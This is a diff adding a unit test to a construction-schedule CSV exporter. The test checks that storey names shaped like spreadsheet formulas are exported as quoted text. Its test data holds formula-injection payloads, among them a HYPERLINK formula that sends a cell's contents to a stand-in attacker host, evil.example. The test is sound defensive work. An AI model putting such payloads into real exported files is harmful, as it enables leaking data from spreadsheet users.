@@ -86,6 +86,19 @@ describe('4D colouring of a schedule', () => {
     expect(csv[3]).toBe('TOTAL,8,2,25,5,62.5,1,1,2,2');
   });
 
+  it('a storey named like a spreadsheet formula comes out of the CSV as text, not as a live formula', () => {
+    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"Level 1")', '+1+1', '-2+3', '@SUM(A1)', '\tLevel'];
+    const els = evil.map((name, i) => el(`E${i}`, 'IfcWall', name));
+    const tasks = [ScheduleTask.parse({ id: 'T', name: 'walls', plannedStart: '2025-03-01', plannedFinish: '2025-03-05', selector: { ifcClass: 'IfcWall' } })];
+    const plans = [...planElements(tasks, els).plans].map(([globalId, x]) => ({ globalId, ...x }));
+    const p = projectProgress('00000000-0000-4000-8000-000000000001', plans, '2025-03-08');
+    const firstCell = (l: string) => (l.startsWith('"') ? /^"((?:[^"]|"")*)"/.exec(l)![1]!.replace(/""/g, '"') : l.split(',')[0]);
+    const cells = progressCsv(p).split('\r\n').slice(1, -2).map(firstCell);
+    expect(cells.sort()).toEqual(evil.map((n) => `'${n}`).sort());
+    // Figures stay numbers, negative ones too (only text is guarded).
+    expect(progressCsv(p).split('\r\n').at(-2)).toBe('TOTAL,5,0,0,5,100,0,0,5,0');
+  });
+
   it('progressStateAt follows its documented boundaries', () => {
     const plan = { plannedStart: '2025-03-10', plannedFinish: '2025-03-20' };
     expect(progressStateAt(plan, undefined, '2025-03-10')).toBe('not_started'); // starting on the day is on plan
